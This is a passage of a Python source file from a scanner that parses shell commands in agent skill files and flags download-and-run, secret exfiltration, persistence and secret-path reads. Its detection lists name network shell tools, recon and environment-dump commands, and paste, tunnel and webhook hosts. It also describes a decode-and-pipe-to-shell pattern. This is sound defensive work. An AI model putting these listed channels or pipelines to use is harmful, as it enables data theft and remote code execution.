"""Commands are parsed, not matched: shell (and inline Python/Node) judged by what it does.

Where commands are found (:func:`check`):

* fenced code blocks whose info string names a shell (``sh``, ``bash``, ``zsh``, ``shell``,
  ``console``, ``shell-session`` …; ``$ `` prompts stripped, output lines dropped), fences with no
  or a plain-text info string and indented code blocks whose lines mostly start with a known
  command word; ``python``/``js`` fences are judged as snippets;
* inline code spans that start with a known command word (:data:`KNOWN_COMMANDS`);
* frontmatter: every ``command:`` value (under ``hooks:`` these run at SessionStart,
  PreToolUse … without the model deciding: origin ``hook``; elsewhere, e.g. ``mcpServers``, with
  its ``args:`` list: origin ``config``) and ``allowed-tools: Bash(…)`` patterns (``permission``);
* Claude Code ``!`` commands: ``!`cmd` `` spans and `````!`` fences (run when the skill or
  command is invoked: origin ``bang``);
* any string other layers hand over: :func:`command_findings` (the decoder layer rescans decoded
  payloads with it).

Judgement (:func:`judge_script`) works on the :mod:`unveil.core.shell` parse tree, never on the
raw line: download-then-execute in every form (SUP011), running a remote or git package (SUP012),
secrets or the environment sent out (EXF011), files sent out (EXF012), command output in DNS or
network requests (EXF013), persistence writes (PER011), secret locations used as a path argument
(SNP015; the catalogue is data: ``unveil/data/secret_paths.toml``, persistence locations
``unveil/data/persistence_paths.toml``), and bodies nested too deep to parse (UNV030).

Severity: a command that runs without the model deciding (``hook``, ``bang``, ``config``) is an
error when it downloads and runs code, sends secrets, writes persistence or reads a secret. In a
code block it is a warning, or an error when what it does is unambiguous (sending a secret or the
environment out, command output in a DNS name, code fetched over plain HTTP, from a raw IP, with
TLS checks off, or decoded before it runs). No word elsewhere in the file lowers a parsed command:
the parse is the evidence. Downloading and running code or sending secrets never goes below
warning (a verified download, ``sha256sum -c`` between fetch and run, is reported at info).

Overlap with the regex rules: each rule here lists the regex rules it covers
(``supersedes = [...]`` in ``rules/commands-*.toml``). :func:`supersede` (run by
:func:`unveil.core.analyze.analyze` after all checks) keeps one finding where both hit: the regex
finding's id and range (stable ids), at the higher of the two severities, with the parsed
judgement attached (message and ``data["parsed_facts"]``). Where no regex rule hit, the parsed
finding stands under its own id.
"""

from __future__ import annotations

import ast
import logging
import re
import sys
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Iterable, Sequence

from unveil.core import shell
from unveil.core.findings import Finding, Severity
from unveil.core.shell import Command, OffsetMap, Script, Snippet, Word

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

log = logging.getLogger(__name__)

CHECK_NAME = "commands"
RULE_DOWNLOAD_EXEC = "SUP011"
RULE_REMOTE_PACKAGE = "SUP012"
RULE_SEND_SECRET = "EXF011"
RULE_UPLOAD = "EXF012"
RULE_SUB_NETWORK = "EXF013"
RULE_PERSISTENCE = "PER011"
RULE_SECRET_PATH = "SNP015"
RULE_TRUNCATED = "UNV030"
CATEGORY = {
    RULE_DOWNLOAD_EXEC: "supply-chain",
    RULE_REMOTE_PACKAGE: "supply-chain",
    RULE_SEND_SECRET: "data-exfiltration",
    RULE_UPLOAD: "data-exfiltration",
    RULE_SUB_NETWORK: "data-exfiltration",
    RULE_PERSISTENCE: "persistence",
    RULE_SECRET_PATH: "agent-snooping",
    RULE_TRUNCATED: "internal",
}
COMBO = {"data-exfiltration": "egress", "agent-snooping": "secrets"}

AUTO_ORIGINS = frozenset({"hook", "bang", "config"})
"""Origins whose commands run without the model deciding."""

SHELL_LANGS = frozenset(
    {
        "sh",
        "bash",
        "zsh",
        "shell",
        "console",
        "shell-session",
        "shellsession",
        "ksh",
        "fish",
        "terminal",
        "cmd-line",
        "bash-session",
        "sh-session",
        "dash",
        "ash",
        "command",
        "cli",
    }
)
PLAIN_LANGS = frozenset({"", "text", "txt", "plain", "plaintext", "none", "output", "log"})
PY_LANGS = frozenset({"python", "py", "python3", "pycon"})
JS_LANGS = frozenset({"js", "javascript", "node", "mjs", "cjs", "ts", "typescript"})

FETCHERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "http",
        "https",
        "xh",
        "xhs",
        "aria2c",
        "lwp-request",
        "get",
        "lynx",
        "httpie",
        "curlie",
        "wget2",
    }
)
SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
DNS_TOOLS = frozenset(
    {
        "dig",
        "host",
        "nslookup",
        "drill",
        "ping",
        "ping6",
        "traceroute",
        "tracepath",
        "whois",
        "resolvectl",
        "getent",
        "kdig",
        "delv",
    }
)
SENDERS = (
    FETCHERS
    | SOCKETS
    | frozenset({"scp", "rsync", "sftp", "ftp", "tftp", "mail", "mailx", "sendmail", "gh", "pastebinit", "sshpass"})
)
EXEC_WORDS = frozenset({"eval", "source", "."})
ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "compgen", "typeset"})
RECON = frozenset({"whoami", "hostname", "id", "groups", "ifconfig", "users", "w", "last", "netstat"})
"""Commands whose output identifies the user or machine (``uname``/``arch`` are left out: release
download URLs use them to pick a platform build)."""
DECODERS = frozenset(
    {"base64", "base32", "xxd", "gunzip", "zcat", "uudecode", "rev", "openssl", "gzip", "bunzip2", "xz", "unxz", "tr"}
)
VERIFIERS = frozenset(
    {
        "sha256sum",
        "sha512sum",
        "sha1sum",
        "shasum",
        "b2sum",
        "md5sum",
        "gpg",
        "gpgv",
        "cosign",
        "minisign",
        "signify",
        "slsa-verifier",
        "openssl",
    }
)
READ_LIKE_SKIP = frozenset(
    {
        "chmod",
        "chown",
        "chgrp",
        "ssh-add",
        "ssh-keygen",
        "ssh",
        "ls",
        "stat",
        "test",
        "[",
        "[[",
        "mkdir",
        "rm",
        "touch",
        "vim",
        "vi",
        "nano",
        "emacs",
        "code",
        "open",
        "export",
        "source",
        ".",
        "docker",
        "kubectl",
        "aws",
        "gcloud",
        "az",
        "git",
        "gh",
        "gpg",
        "npm",
        "pip",
        "ln",
        "echo",
        "cd",
        "mv",
        "unset",
        "direnv",
        "dotenv",
        "helm",
        "terraform",
        "ssh-copy-id",
        "sftp",
        "file",
        "wc",
        "du",
        "find",
        "realpath",
        "dirname",
        "basename",
        "printf",
        "trash",
        "shred",
        "setfacl",
        "icacls",
        "attrib",
        "sops",
        "age",
        "op",
        "vault",
        "doppler",
        "infisical",
        "pnpm",
        "yarn",
        "cargo",
        "gem",
        "twine",
        "poetry",
        "uv",
        "kubectx",
        "minikube",
        "kind",
        "k3d",
        "eksctl",
        "gsutil",
        "bq",
        "code-insiders",
        "cursor",
        "subl",
        "mate",
        "xdg-open",
        "true",
        "false",
        "exit",
        "return",
        "alias",
    }
)
KNOWN_COMMANDS = frozenset(
    set(
        FETCHERS
        | SOCKETS
        | DNS_TOOLS
        | SENDERS
        | EXEC_WORDS
        | shell.SHELLS
        | set(shell.INTERPRETERS)
        | shell.WRAPPERS
        | DECODERS
        | VERIFIERS
    )
    | {
        "git",
        "npm",
        "npx",
        "pnpm",
        "yarn",
        "bunx",
        "uvx",
        "pipx",
        "pip",
        "pip3",
        "uv",
        "cat",
        "cp",
        "mv",
        "chmod",
        "crontab",
        "ln",
        "tee",
        "echo",
        "printf",
        "mkdir",
        "rm",
        "cd",
        "ssh",
        "tar",
        "zip",
        "unzip",
        "sed",
        "awk",
        "docker",
        "kubectl",
        "aws",
        "gcloud",
        "az",
        "systemctl",
        "launchctl",
        "defaults",
        "security",
        "install",
        "dd",
        "make",
        "brew",
        "apt",
        "apt-get",
        "yum",
        "dnf",
        "apk",
        "go",
        "cargo",
        "gem",
        "sudo",
        "export",
        "powershell",
        "pwsh",
        "iex",
        "irm",
        "iwr",
        "schtasks",
        "reg",
        "at",
        "head",
        "tail",
        "less",
        "grep",
        "jq",
        "touch",
        "ls",
        "find",
        "xargs",
        "claude",
        "codex",
        "gemini",
        "deno",
        "bun",
        "./install.sh",
        "sh",
    }
)

_URL = re.compile(r"(?i)\b(?:https?|ftp)://[^\s'\"<>`|;)]+")
_RAW_IP_URL = re.compile(r"(?i)\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}\b")
_LOCAL = re.compile(
    r"(?i)^(?:[a-z]+://)?(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|::1|host\.docker\.internal)(?:[:/]|$)"
)
_SHADY_HOST = re.compile(
    r"(?i)\b(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|goo\.gl|pastebin\.com|paste\.ee|hastebin|"
    r"transfer\.sh|ngrok(?:-free)?\.(?:io|app)|trycloudflare\.com|webhook\.site|requestbin|"
    r"pipedream\.net|interact\.sh|oast\.|burpcollaborator|0x0\.st|termbin\.com|ix\.io)"
)
_SECRET_VAR = re.compile(
    r"(?i)\$\{?([A-Z_][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS?|AUTH|"
    r"COOKIE|SESSION|PAT|PRIVATE)[A-Z0-9_]*)\}?"
)
_SUB_IN_TEXT = re.compile(r"\$\(|`")


# --------------------------------------------------------------------------------------------
# Location catalogues
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Location:
    """One catalogue entry: ``id``, ``label``, compiled ``paths`` and ``excepts`` (see the data
    files for the syntax) and the ``source`` of the facts."""

    id: str
    label: str
    paths: tuple
    excepts: tuple
    source: str = ""


def _data_dir() -> Path:
    return Path(__file__).resolve().parent.parent.parent / "data"


def _glob_re(pat: str) -> str:
    out = []
    i = 0
    while i < len(pat):
        c = pat[i]
        if pat.startswith("**", i):
            out.append(".*")
            i += 2
            continue
        if c == "*":
            out.append("[^/]*")
        elif c == "?":
            out.append("[^/]")
        else:
            out.append(re.escape(c))
        i += 1
    return "".join(out)


def _compile_path(pat: str, bare_name: bool = False):
    pat = pat.replace("\\", "/")
    if pat.startswith("~/"):
        body = _glob_re(pat[2:].rstrip("/"))
        rx = r"(?:^~/|/|^)" + body + r"(?:/.*)?$"
    elif pat.startswith("/"):
        rx = r"^" + _glob_re(pat.rstrip("/")) + r"(?:/.*)?$"
    else:
        rx = r"(?:^|/)" + _glob_re(pat.rstrip("/")) + ("$" if bare_name else r"(?:/.*)?$")
    return re.compile(rx, re.IGNORECASE)


@lru_cache(maxsize=4)
def load_locations(name: str) -> tuple[Location, ...]:
    """Load ``unveil/data/<name>.toml`` (``secret_paths`` or ``persistence_paths``). Raises
    ``ValueError`` naming the file when it is malformed (a packaging error, caught by the tests)."""
    path = _data_dir() / f"{name}.toml"
    data = tomllib.loads(path.read_text(encoding="utf-8"))
    out = []
    for i, loc in enumerate(data.get("location", [])):
        if not isinstance(loc.get("id"), str) or not isinstance(loc.get("paths"), list):
            raise ValueError(f"{path}: location[{i}] needs an 'id' and a 'paths' list")
        out.append(
            Location(
                loc["id"],
                str(loc.get("label", loc["id"])),
                tuple(_compile_path(p) for p in loc["paths"]),
                tuple(_compile_path(p, bare_name=True) for p in loc.get("except", [])),
                str(loc.get("source", "")),
            )
        )
    return tuple(out)


_HOME = re.compile(
    r"(?i)^(?:~[A-Za-z0-9_.-]*|\$HOME|\$\{HOME\}|\$\{?USERPROFILE\}?|%USERPROFILE%|%HOMEPATH%|"
    r"\$env:USERPROFILE|\$env:HOME|\$\{os\.homedir\(\)\}|\$\{homedir\}|[A-Za-z]:/Users/[^/]+|"
    r"/home/[^/]+|/Users/[^/]+|/root)(?=/|$)"
)
_APPDATA = re.compile(r"(?i)^(?:%APPDATA%|\$env:APPDATA|\$APPDATA)")
_LOCALAPPDATA = re.compile(r"(?i)^(?:%LOCALAPPDATA%|\$env:LOCALAPPDATA)")
_GLOB_CHARS = re.compile(r"[*?\[]")


def normalize_path(p: str) -> str:
    """A path argument as the catalogues match it: ``\\`` → ``/``, the home folder in any spelling
    → ``~``, ``%APPDATA%`` → ``~/AppData/Roaming``, ``./`` and repeated ``/`` removed, quotes
    stripped."""
    p = p.strip().strip("'\"")
    p = p.replace("\\", "/")
    p = _APPDATA.sub("~/AppData/Roaming", p)
    p = _LOCALAPPDATA.sub("~/AppData/Local", p)
    p = _HOME.sub("~", p)
    p = re.sub(r"/{2,}", "/", p)
    p = re.sub(r"(^|/)\./", r"\1", p)
    if len(p) > 1:
        p = p.rstrip("/")
    return p


@lru_cache(maxsize=4)
def _union(catalogue: str):
    """One regex matching whatever any location's paths match (a prefilter: most words match none)."""
    pats = [rx.pattern for loc in load_locations(catalogue) for rx in loc.paths]
    return re.compile("|".join(f"(?:{p})" for p in pats), re.IGNORECASE)


@lru_cache(maxsize=8192)
def match_location(path: str, catalogue: str) -> Location | None:
    """The first :class:`Location` of ``catalogue`` (``"secret_paths"`` or
    ``"persistence_paths"``) that ``path`` (any spelling; see :func:`normalize_path`) falls
    under, else ``None``. A path with glob characters matches when what it could expand to
    reaches into a location (``~/.ssh/*``, ``~/.aws/*``)."""
    p = normalize_path(path)
    if not p or len(p) > 4096:
        return None
    g = _GLOB_CHARS.search(p)
    if g is None and not _union(catalogue).search(p):
        return None
    for loc in load_locations(catalogue):
        if any(x.search(p) for x in loc.excepts):
            continue
        if any(rx.search(p) for rx in loc.paths):
            return loc
        if g is not None:
            prefix = p[: g.start()]
            if prefix.startswith("~/") and len(prefix) >= 4 and "/" in prefix:
                probe = prefix.rstrip("/")
                if any(rx.search(probe) for rx in loc.paths) and not any(x.search(probe) for x in loc.excepts):
                    return loc
    return None


def _path_candidates(text: str) -> Iterable[str]:
    """Path-like pieces of one argument: the whole, the part after ``=``/``@``/``<`` (``--file=…``,
    ``-d @file``, ``-F f=@file``), and ``:``-separated parts."""
    yield text
    for sep in ("=@", "=<", "@", "=", "<"):
        if sep in text:
            yield text.split(sep, 1)[1]
    if ":" in text and "://" not in text:
        for part in text.split(":"):
            if part and part != text:
                yield part


def secret_in(text: str) -> Location | None:
    """The secret location named by argument ``text`` (see :func:`_path_candidates`)."""
    if not text or len(text) > 4096:
        return None
    for c in _path_candidates(text):
        loc = match_location(c, "secret_paths")
        if loc is not None:
            return loc
    return None


# --------------------------------------------------------------------------------------------
# Hits
# --------------------------------------------------------------------------------------------


@dataclass
class Hit:
    """One judged fact, before it becomes a :class:`Finding`."""

    rule: str
    severity: Severity
    start: int
    end: int
    message: str
    facts: dict = field(default_factory=dict)


def _sev(auto: bool, strong: bool, base: Severity = Severity.WARNING) -> Severity:
    return Severity.ERROR if (auto or strong) else base


@dataclass
class _Judge:
    origin: str
    hits: list[Hit] = field(default_factory=list)

    @property
    def auto(self) -> bool:
        return self.origin in AUTO_ORIGINS

    def add(self, rule, sev, start, end, msg, **facts):
        self.hits.append(Hit(rule, sev, start, end, msg, facts))


def _clip(s: str, n: int = 80) -> str:
    s = " ".join(s.split())
    return s if len(s) <= n else s[: n - 1] + "…"


def _opts_letters(args: Sequence[Word]) -> set[str]:
    out = set()
    for a in args:
        t = a.text
        if t.startswith("-") and not t.startswith("--") and len(t) > 1:
            out.update(t[1:])
        elif t.startswith("--"):
            out.add(t)
    return out


def _urls(cmd: Command) -> list[str]:
    out = []
    for w in cmd.argv:
        out.extend(m.group(0) for m in _URL.finditer(w.text))
    return out


def _strong_source(urls: Sequence[str], args: Sequence[Word]) -> str | None:
    """Why a download is unambiguous: plain HTTP, raw IP, TLS checks off, a shortener or paste host."""
    for u in urls:
        if _LOCAL.match(u.split("://", 1)[-1]):
            continue
        if _RAW_IP_URL.match(u):
            return "from a raw IP address"
        if u.lower().startswith("http://"):
            return "over plain HTTP"
        if _SHADY_HOST.search(u):
            return "from a link shortener, paste or tunnel host"
    for a in args:
        if a.text in ("-k", "--insecure", "--no-check-certificate") or (
            a.text.startswith("-")
            and not a.text.startswith("--")
            and "k" in a.text[1:]
            and len(a.text) <= 6
            and a.text[1:].isalpha()
        ):
            return "with TLS certificate checks off"
    return None


def _fetch_to_stdout(cmd: Command) -> bool:
    """Whether ``cmd`` (unwrapped) downloads to standard output."""
    name, args, _w = cmd.effective()
    if name in SOCKETS:
        return name != "openssl" or any(a.text == "s_client" for a in args)
    if name not in FETCHERS:
        return False
    texts = [a.text for a in args]
    if name in ("curl", "curlie"):
        for k, t in enumerate(texts):
            if t in ("-o", "--output") and k + 1 < len(texts) and texts[k + 1] not in ("-", "/dev/stdout"):
                return False
            if t.startswith("--output=") and t[9:] not in ("-", "/dev/stdout"):
                return False
            if t in ("-O", "--remote-name", "--remote-name-all", "-J"):
                return False
            if t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and ("O" in t[1:]):
                return False
            if t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and t.endswith("o"):
                nxt = texts[k + 1] if k + 1 < len(texts) else ""
                if nxt not in ("-", "/dev/stdout"):
                    return False
        return True
    if name in ("wget", "wget2"):
        for k, t in enumerate(texts):
            if t in ("-O", "--output-document") and k + 1 < len(texts) and texts[k + 1] in ("-", "/dev/stdout"):
                return True
            if t.startswith("--output-document=") and t.split("=", 1)[1] in ("-", "/dev/stdout"):
                return True
            if re.fullmatch(r"-[a-zA-Z]*O-?", t) and (t.endswith("-") or (k + 1 < len(texts) and texts[k + 1] == "-")):
                return True
            if t in ("-qO-", "-O-"):
                return True
        return False
    if name == "fetch":
        return any(t == "-o" for t in texts) and "-" in texts
    if name == "aria2c":
        return False
    return True


def _downloaded_files(cmd: Command) -> list[str]:
    """Files a fetcher command writes (``-o f``, ``-O`` from the URL, wget's default name, ``> f``)."""
    name, args, _w = cmd.effective()
    if name not in FETCHERS:
        return []
    texts = [a.text for a in args]
    out = []
    urls = _urls(cmd)
    for k, t in enumerate(texts):
        nxt = texts[k + 1] if k + 1 < len(texts) else ""
        if name in ("curl", "curlie"):
            if t in ("-o", "--output") or (
                t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and t.endswith("o")
            ):
                if nxt and nxt != "-":
                    out.append(nxt)
            elif t.startswith("--output="):
                out.append(t[9:])
            elif t in ("-O", "--remote-name") or (
                t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and "O" in t[1:]
            ):
                out.extend(u.rstrip("/").rsplit("/", 1)[-1].split("?")[0] for u in urls)
        elif name in ("wget", "wget2"):
            if t in ("-O", "--output-document") or re.fullmatch(r"-[a-zA-Z]*O", t):
                if nxt and nxt != "-":
                    out.append(nxt)
            elif t.startswith("--output-document="):
                out.append(t.split("=", 1)[1])
            elif re.fullmatch(r"-[a-zA-Z]*O[^-].*", t):
                out.append(t[t.index("O") + 1 :])
    if name in ("wget", "wget2") and not out and not _fetch_to_stdout(cmd):
        out.extend(u.rstrip("/").rsplit("/", 1)[-1].split("?")[0] for u in urls)
    for r in cmd.redirects:
        if r.writes and r.target is not None:
            out.append(r.target.text)
    return [o for o in out if o]


def _same_file(a: str, b: str) -> bool:
    a, b = normalize_path(a), normalize_path(b)
    if not a or not b:
        return False
    if a == b:
        return True
    ba, bb = a.rsplit("/", 1)[-1], b.rsplit("/", 1)[-1]
    return bool(ba) and ba == bb and ("/" in a or "/" in b or "$" in a or "$" in b)


def _script_operand(args: Sequence[Word], lang: str | None) -> Word | None:
    """The script file operand of a shell or interpreter (first non-option argument), or ``None``
    when it reads its program from standard input."""
    skip_next = {"-o", "-O", "+O", "--rcfile", "--init-file", "-W", "-X", "-m"} if lang in (None, "python") else set()
    k = 0
    while k < len(args):
        t = args[k].text
        if t == "--":
            return args[k + 1] if k + 1 < len(args) else None
        if t in ("-", "/dev/stdin", "-s"):
            return None
        if t in skip_next:
            if t == "-m":
                return args[k]  # python -m module: not stdin
            k += 2
            continue
        if t.startswith("-") or t.startswith("+"):
            k += 1
            continue
        return args[k]
    return None


def _reads_stdin_program(cmd: Command) -> bool:
    """Whether ``cmd`` executes its standard input as a program (``sh``, ``bash -s``, ``python -``,
    ``node``, ``xargs sh -c``, ``eval "$(cat)"``, ``source /dev/stdin``)."""
    name, args, wrappers = cmd.effective()
    if not name:
        return False
    if "xargs" in wrappers and (name in shell.SHELLS or name in shell.INTERPRETERS or name in EXEC_WORDS):
        return True
    if name in EXEC_WORDS:
        return any(
            a.text in ("/dev/stdin", "-", "/proc/self/fd/0") or "$(cat)" in a.text or "`cat`" in a.text for a in args
        )
    if name in shell.SHELLS:
        if _has_flag(args, "c"):
            return any("$(cat)" in a.text or "$(cat -)" in a.text for a in args)
        return _script_operand(args, None) is None or any(a.text == "/dev/stdin" for a in args)
    lang = shell.INTERPRETERS.get(name)
    if lang:
        if any(a.text in shell.CODE_FLAGS.get(lang, ()) for a in args):
            return any("$(cat)" in a.text for a in args)
        if name == "deno" or name == "bun":
            return any(a.text in ("-", "/dev/stdin") for a in args)
        op = _script_operand(args, lang)
        return op is None or op.text in ("-", "/dev/stdin")
    return False


def _has_flag(args: Sequence[Word], letter: str) -> bool:
    for a in args:
        t = a.text
        if t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and letter in t[1:]:
            return True
        if not t.startswith("-"):
            return False
    return False


def _is_executor(cmd: Command) -> bool:
    name = cmd.effective()[0]
    return name in shell.SHELLS or name in shell.INTERPRETERS or name in EXEC_WORDS


def _script_fetches(s: Script) -> Command | None:
    """A command in ``s`` (nested included) that downloads to standard output."""
    for c in s.commands():
        if _fetch_to_stdout(c):
            return c
    return None


def _decodes(stages: Sequence[Command]) -> bool:
    for c in stages:
        name, args, _w = c.effective()
        if name in ("base64", "base32") and any(
            a.text in ("-d", "-D", "--decode") or a.text.startswith("-d") for a in args
        ):
            return True
        if name in ("xxd",) and any("r" in a.text for a in args if a.text.startswith("-")):
            return True
        if name in ("gunzip", "zcat", "uudecode", "rev", "bunzip2", "unxz"):
            return True
        if name == "openssl" and any(a.text in ("-d", "base64", "enc") for a in args):
            return True
    return False


# --------------------------------------------------------------------------------------------
# Judgement of a script
# --------------------------------------------------------------------------------------------


def judge_script(script: Script, origin: str) -> list[Hit]:
    """All :class:`Hit` values of ``script`` (parsed by :func:`unveil.core.shell.parse`) for a
    command found at ``origin`` (``code``, ``hook``, ``bang``, ``config``, ``permission``,
    ``decoded``, ``hidden``)."""
    j = _Judge(origin)
    scripts = list(script.scripts())
    for s in scripts:
        _download_exec(j, s)
        if s.truncated is not None:
            j.add(
                RULE_TRUNCATED,
                Severity.WARNING,
                s.truncated,
                s.truncated + 1,
                f"shell nested deeper than {shell.MAX_DEPTH} levels (sh -c / eval / $(…)): the innermost "
                "commands were not parsed",
            )
    for s in scripts:
        for p in s.pipelines:
            for k, st in enumerate(p.stages[1:], 1):
                before = []
                for c in p.stages[:k]:
                    before.append(c)
                    if c.body is not None:
                        before.extend(c.body.commands())
                st._stdin_content = "\n".join(_content_of(c) for c in before)  # type: ignore[attr-defined]
    seen_cmds: set[int] = set()
    for c in script.commands():
        if id(c) in seen_cmds:
            continue
        seen_cmds.add(id(c))
        _remote_package(j, c)
        _network(j, c)
        _persistence(j, c)
        _secret_paths(j, c)
        for sn in c.snippets:
            for h in judge_snippet(sn, origin):
                j.hits.append(h)
    for s in scripts:
        _pipes_send(j, s)
    return j.hits


def _exec_message(how: str, fetch: Command, why: str | None) -> str:
    urls = _urls(fetch)
    src = urls[0] if urls else _clip(" ".join(w.text for w in fetch.argv), 60)
    msg = f"Downloads code and runs it ({how}): {_clip(src, 70)}"
    if why:
        msg += f" ({why})"
    return msg


def _download_exec(j: _Judge, s: Script) -> None:
    # 1. pipelines: fetch | … | interpreter
    tainted: dict[str, Command] = {}
    downloads: list[tuple[str, Command, int]] = []  # (file, fetch command, pipeline index)
    verified_after: list[int] = []
    for pi, p in enumerate(s.pipelines):
        stages = p.stages
        for i, st in enumerate(stages):
            f = st if _fetch_to_stdout(st) else (_script_fetches(st.body) if st.body is not None else None)
            if f is None:
                continue
            for later in stages[i + 1 :]:  # `curl … | tee f`, `curl … | gunzip > f`: the file holds the download
                if later.effective()[0] == "tee":
                    downloads.extend((w.text, f, pi) for w in later.effective()[1] if not w.text.startswith("-"))
                downloads.extend(
                    (r.target.text, f, pi)
                    for r in later.redirects
                    if r.writes and r.target is not None and r.target.text != "/dev/null"
                )
            for k in range(i + 1, len(stages)):
                ex = stages[k]
                if _reads_stdin_program(ex) or (
                    ex.body is not None and any(_reads_stdin_program(c) for c in ex.body.commands())
                ):
                    why = _strong_source(_urls(f), f.effective()[1])
                    if _decodes(stages[i + 1 : k]):
                        why = why or "decoded before it runs"
                    via = " | ".join(c.effective()[0] or "…" for c in stages[i + 1 : k + 1])
                    j.add(
                        RULE_DOWNLOAD_EXEC,
                        _sev(j.auto, why is not None),
                        p.start,
                        p.end,
                        _exec_message(f"piped into {via}", f, why),
                        form="pipe",
                    )
                    break
        _decoded_payload(j, stages, s.depth)
        # assignments from a fetch taint the variable
        for st in stages:
            for name, w in st.assigns:
                for sub in w.subs:
                    f = _script_fetches(sub)
                    if f is not None:
                        tainted[name] = f
            # 2. executors whose program is a substitution that fetches
            _exec_substitution(j, st, tainted)
            for fn in _downloaded_files(st):
                downloads.append((fn, st, pi))
            if _is_verifier(st):
                verified_after.append(pi)
        # 3. run a downloaded file
        for st in stages:
            target = _executed_file(st)
            if target is None:
                continue
            for fn, f, dpi in downloads:
                if dpi <= pi and f is not st and _same_file(fn, target.text):
                    verified = any(dpi <= v <= pi for v in verified_after) or _is_verifier_in(p)
                    why = _strong_source(_urls(f), f.effective()[1])
                    sev = Severity.INFO if verified and not j.auto else _sev(j.auto, why is not None)
                    if verified:
                        why = (why + "; " if why else "") + "checksum or signature verified before running"
                    first = s.pipelines[dpi]
                    j.add(
                        RULE_DOWNLOAD_EXEC,
                        sev,
                        min(first.start, st.start),
                        max(st.end, p.end),
                        _exec_message(f"saved as {fn} then run", f, why),
                        form="file",
                    )
                    break
    # interpreters given a URL as their program (deno run https://…)
    for p in s.pipelines:
        for st in p.stages:
            name, args, _w = st.effective()
            if name in ("deno", "bun") or name in shell.INTERPRETERS:
                op = _script_operand([a for a in args if a.text != "run"], shell.INTERPRETERS.get(name))
                if op is not None and _URL.match(op.text):
                    why = _strong_source([op.text], args)
                    j.add(
                        RULE_DOWNLOAD_EXEC,
                        _sev(j.auto, why is not None),
                        st.start,
                        st.end,
                        f"Runs a script straight from a URL: {_clip(op.text, 70)}" + (f" ({why})" if why else ""),
                        form="url-operand",
                    )


def _decode_literal(data: str, stages: Sequence[Command]) -> str | None:
    """Apply the decoders of ``stages`` (``base64 -d``, ``base32 -d``, ``xxd -r -p``, ``rev``) to
    ``data``; ``None`` when a stage is something else or the data does not decode."""
    import base64
    import binascii

    out = data
    for c in stages:
        name, args, _w = c.effective()
        flags = " ".join(a.text for a in args)
        try:
            if name == "base64" and re.search(r"-d|-D|--decode", flags):
                out = base64.b64decode(re.sub(r"\s", "", out) + "===", validate=False).decode("utf-8")
            elif name == "base32" and re.search(r"-d|--decode", flags):
                t = re.sub(r"\s", "", out).upper()
                out = base64.b32decode(t + "=" * (-len(t) % 8)).decode("utf-8")
            elif name == "xxd" and "-r" in flags:
                out = binascii.unhexlify(re.sub(r"[^0-9a-fA-F]", "", out)).decode("utf-8")
            elif name == "rev":
                out = "\n".join(line[::-1] for line in out.split("\n"))
            else:
                return None
        except (ValueError, UnicodeDecodeError, binascii.Error):
            return None
    return out


def _decoded_payload(j: _Judge, stages: Sequence[Command], depth: int) -> None:
    """``echo <base64> | base64 -d | sh``: the decoded text is what runs, so it is parsed and judged
    too (its findings point at the encoded literal; decode-and-execute itself is SUP002's)."""
    if len(stages) < 3 or depth >= shell.MAX_DEPTH:
        return
    first = stages[0]
    name, args, _w = first.effective()
    if name not in ("echo", "printf") or not args or any(a.expands for a in args):
        return
    lit = [a for a in args if not a.text.startswith("-")]
    if not lit:
        return
    for k in range(2, len(stages)):
        if _reads_stdin_program(stages[k]):
            payload = _decode_literal(" ".join(a.text for a in lit), stages[1:k])
            if payload:
                w = lit[-1] if len(lit) == 1 else lit[0]
                omap = OffsetMap(((0, w.start),), limit=(w.start, max(w.start, lit[-1].end - 1)))
                sub = shell.parse(payload, omap, depth + 1)
                for h in judge_script(sub, j.origin):
                    h.message += " (decoded from the encoded text piped into " + stages[k].effective()[0] + ")"
                    h.start, h.end = lit[0].start, lit[-1].end  # decoded offsets do not map back: the literal
                    j.hits.append(h)
            return


def _is_verifier(c: Command) -> bool:
    name, args, _w = c.effective()
    texts = [a.text for a in args]
    if name in ("sha256sum", "sha512sum", "sha1sum", "b2sum", "md5sum", "shasum"):
        return any(
            t in ("-c", "--check") or (t.startswith("-") and "c" in t[1:] and not t.startswith("--")) for t in texts
        )
    if name in ("gpg", "gpgv"):
        return name == "gpgv" or "--verify" in texts
    if name in ("cosign", "slsa-verifier"):
        return any(t.startswith("verify") for t in texts)
    if name in ("minisign", "signify"):
        return "-V" in texts
    if name == "openssl":
        return "-verify" in texts
    return False


def _is_verifier_in(p) -> bool:
    return any(_is_verifier(c) for c in p.stages)


def _executed_file(c: Command) -> Word | None:
    """The file ``c`` runs: ``./f``/``/tmp/f`` as the command, a shell's or interpreter's script
    operand, ``source f``/``. f``."""
    if not c.argv:
        return None
    name, args, _w = c.effective()
    if not name:
        return None
    first = None
    words = list(c.argv)
    # the wrapped command word itself
    for w in words:
        if shell.basename(w.text) == name:
            first = w
            break
    if first is not None and ("/" in first.text) and name not in shell.SHELLS and name not in shell.INTERPRETERS:
        return first
    if name in EXEC_WORDS:
        return args[0] if args and not args[0].subs else None
    if name in shell.SHELLS and not _has_flag(args, "c"):
        return _script_operand(args, None)
    lang = shell.INTERPRETERS.get(name)
    if lang and not any(a.text in shell.CODE_FLAGS.get(lang, ()) for a in args):
        return _script_operand([a for a in args if a.text != "run"], lang)
    return None


def _exec_substitution(j: _Judge, st: Command, tainted: dict[str, Command]) -> None:
    name, args, _w = st.effective()
    cands: list[Word] = []
    if st.argv and st.argv[0].subs and not name.isidentifier():
        cands.append(st.argv[0])  # `$(curl …)` as the command itself
    elif name in EXEC_WORDS:
        cands.extend(args)
    elif name in shell.SHELLS:
        v = _flag_word(args, "c")
